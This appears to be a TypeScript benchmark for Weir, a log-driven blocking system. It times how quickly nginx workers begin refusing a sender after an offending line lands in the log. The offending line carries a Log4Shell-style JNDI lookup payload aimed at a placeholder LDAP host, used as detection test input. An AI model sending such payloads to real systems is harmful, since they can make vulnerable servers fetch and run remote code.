/**
 * From the append of an offending line until every nginx worker answers 403 to its sender, under a background load of
 * ordinary lines. Nothing is simulated: a real log, nats-server, the four services and nginx.
 */
import { appendFileSync, mkdtempSync, writeFileSync } from 'node:fs';
import { Agent, request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Clock } from '#libs/clock/clock.ts';
import { SystemClock } from '#libs/clock/system.ts';
import { decisionFromMessage } from '#libs/wire/decision.ts';
import { nginxPart } from '#services/standalone/parts/parts.ts';
import { freePort } from '#services/standalone/stack/ports.ts';
import type { Stack } from '#services/standalone/stack/stack.ts';
import { percentile } from '#services/standalone/summary.ts';
import { cpuSeconds, withStack } from './stack.ts';

export interface LatencyOptions {
  /** Ordinary lines a second beside the measured ones. */
  readonly rate: number;
  readonly runs: number;
  /** Offending lines in each run. */
  readonly samples: number;
}

interface Quantiles {
  readonly p50: number;
  readonly p99: number;
}

export interface LatencyResult {
  readonly latency_ms: Quantiles & { readonly max: number; readonly n: number };
  /** Lines whose sender was not refused within ten seconds, at which their run ends. They are not in the latencies. */
  readonly given_up: number;
  readonly stages_ms: Record<string, Quantiles>;
  /** Of the processes of the stack without nginx and of this one, which makes the lines, in cores. */
  readonly cpu_cores: Readonly<Record<string, number>>;
}

const WORKERS = 2;
const LOAD_EVERY_MS = 10;
const POLL_MS = 0.5;
const GIVE_UP_MS = 10_000;
const PAUSE_MS = 5;
/** Connections that are opened from one address at most to reach every worker. */
const CONNECTIONS_MAX = 64;
const SITE = 'add_header X-Worker $pid always;\nlocation / { return 200 "ok\\n"; }';

interface Sample {
  readonly address: string;
  readonly writtenMs: number;
  readonly refusedMs: number;
}

export async function benchLatency({ rate, runs, samples }: LatencyOptions): Promise<LatencyResult> {
  const clock = new SystemClock();
  const all: Sample[] = [];
  const stages: Record<string, number[]> = {};
  const cores: Record<string, number[]> = {};
  let givenUp = 0;
  for (let run = 0; run < runs; run++) {
    const folder = mkdtempSync(join(tmpdir(), 'weir-bench-'));
    const log = join(folder, 'source.log');
    const port = await freePort();
    writeFileSync(log, '');
    await withStack(
      {
        clock,
        nginx: { part: await nginxPart(), port, workers: WORKERS, site: SITE },
        config: {
          enforce: true,
          loopback: true,
          logLevel: 'warn',
          source: { name: 'bench', type: 'file', path: log },
        },
      },
      async (stack) => {
        const stopping = new AbortController();
        const load = background(log, rate, clock, stopping.signal);
        await clock.sleep(1000);
        const usage = cpuMeter(stack, clock);
        const measured: Sample[] = [];
        for (let i = 0; i < samples; i++) {
          const sample = await measureOne(addressOf(run, i), log, port, clock);
          if (!sample) {
            givenUp++;
            break;
          }
          measured.push(sample);
          await clock.sleep(PAUSE_MS);
        }
        for (const [name, used] of Object.entries(usage())) {
          cores[name] ??= [];
          cores[name].push(used);
        }
        stopping.abort();
        await load;
        all.push(...measured);
        // What is given up comes so late that nobody waits for it.
        if (measured.length === samples) await addStages(stack, measured, stages);
      },
      folder,
    );
  }
  const latencies = all.map(({ writtenMs, refusedMs }) => refusedMs - writtenMs);
  return {
    latency_ms: {
      p50: percentile(latencies, 0.5),
      p99: percentile(latencies, 0.99),
      max: percentile(latencies, 1),
      n: latencies.length,
    },
    given_up: givenUp,
    stages_ms: Object.fromEntries(
      Object.entries(stages).map(([stage, ms]) => [
        stage,
        { p50: percentile(ms, 0.5), p99: percentile(ms, 0.99) },
      ]),
    ),
    cpu_cores: Object.fromEntries(
      Object.entries(cores).map(([name, each]) => [name, Math.round(100 * percentile(each, 0.5)) / 100]),
    ),
  };
}

/** Begins to measure. Returns how many cores each process has used since. */
function cpuMeter(stack: Stack, clock: Clock): () => Record<string, number> {
  const read = () => {
    const { user, system } = process.cpuUsage();
    return { ...cpuSeconds(stack), load: (user + system) / 1e6 };
  };
  const before: Record<string, number> = read();
  const startMs = clock.elapsed();
  return () => {
    const seconds = (clock.elapsed() - startMs) / 1000;
    return Object.fromEntries(
      Object.entries(read()).map(([name, used]) => [name, (used - before[name]) / seconds]),
    );
  };
}

/** Of networks of their own: where many are blocked, their neighbours are before they do anything. */
function addressOf(run: number, i: number): string {
  return `127.${50 + run}.${i & 255}.${1 + (i >>> 8)}`;
}

/** Appends an offending line and asks every worker until all refuse; undefined when that takes too long. */
async function measureOne(
  address: string,
  log: string,
  port: number,
  clock: Clock,
): Promise<Sample | undefined> {
  const connections = await connectionsToAll(address, port);
  const writtenMs = clock.now();
  appendFileSync(log, lineOf(clock.now(), address, '/', '${jndi:ldap://198.51.100.7/a}'));
  try {
    for (const connection of connections) {
      while ((await ask(connection, address, port)).status !== 403) {
        if (clock.now() - writtenMs > GIVE_UP_MS) return undefined;
        await clock.sleep(POLL_MS);
      }
    }
    return { address, writtenMs, refusedMs: clock.now() };
  } finally {
    for (const connection of connections) connection.destroy();
  }
}

/** One kept-alive connection to each worker. */
async function connectionsToAll(address: string, port: number): Promise<Agent[]> {
  const byWorker = new Map<string, Agent>();
  for (let i = 0; i < CONNECTIONS_MAX && byWorker.size < WORKERS; i++) {
    const agent = new Agent({ keepAlive: true, maxSockets: 1 });
    const { worker } = await ask(agent, address, port);
    if (byWorker.has(worker)) agent.destroy();
    else byWorker.set(worker, agent);
  }
  return [...byWorker.values()];
}

function ask(agent: Agent, address: string, port: number): Promise<{ status: number; worker: string }> {
  return new Promise((resolve, reject) => {
    const asking = request({ host: '127.0.0.1', port, localAddress: address, agent }, (response) => {
      response.resume();
      response.once('end', () => {
        resolve({ status: response.statusCode ?? 0, worker: String(response.headers['x-worker'] ?? '') });
      });
    });
    asking.once('error', reject);
    asking.end();
  });
}

/** Ordinary lines at a steady rate, from addresses that nobody measures. */
async function background(log: string, rate: number, clock: Clock, signal: AbortSignal): Promise<void> {
  const startMs = clock.elapsed();
  for (let sent = 0; !signal.aborted; ) {
    const due = Math.floor(((clock.elapsed() - startMs) / 1000) * rate);
    const lines: string[] = [];
    for (; sent < due; sent++) {
      const address = `100.${64 + (sent % 60)}.${(sent >>> 6) & 255}.${1 + ((sent * 7) % 250)}`;
      lines.push(lineOf(clock.now(), address, `/products/${sent % 997}`, 'Mozilla/5.0 (X11; Linux x86_64)'));
    }
    if (lines.length > 0) appendFileSync(log, lines.join(''));
    await clock.sleep(LOAD_EVERY_MS, signal);
  }
}

/** A line of Weir's own log format. No text needs to be escaped. */
function lineOf(nowMs: number, address: string, uri: string, agent: string): string {
  const time = (nowMs / 1000).toFixed(3);
  return `{"v":1,"t":${time},"ip":"${address}","h":"shop.example","m":"GET","u":"${uri}","p":"HTTP/1.1","s":200,"b":612,"rt":0.002,"ua":"${agent}","rf":"","weir":""}\n`;
}

/** What the ledger knows about when each sample passed which stage. */
async function addStages(
  stack: Stack,
  samples: readonly Sample[],
  into: Record<string, number[]>,
): Promise<void> {
  await stack.until('the last reports', async () => {
    const { applied } = await stack.controlPlane.list({ limit: 100_000 });
    return applied.length >= samples.length;
  });
  const list = await stack.controlPlane.list({ limit: 100_000 });
  const appliedMs = new Map(list.applied.map(({ id, appliedMs: at }) => [id, at ?? 0]));
  const byAddress = new Map(
    list.decisions.map(decisionFromMessage).map((decision) => [decision.value, decision]),
  );
  for (const { address, writtenMs, refusedMs } of samples) {
    const decision = byAddress.get(address);
    if (!decision) continue;
    const { ingestedMs, publishedMs, storedMs, detectedMs, decidedMs } = decision.stages;
    const applied = appliedMs.get(decision.id) ?? 0;
    const times = {
      read: ingestedMs - writtenMs,
      batch: publishedMs - ingestedMs,
      store: storedMs - publishedMs,
      detect: detectedMs - storedMs,
      decide: decidedMs - detectedMs,
      enforce: applied - decidedMs,
      see: refusedMs - applied,
    };
    for (const [stage, ms] of Object.entries(times)) {
      into[stage] ??= [];
      into[stage].push(ms);
    }
  }
}
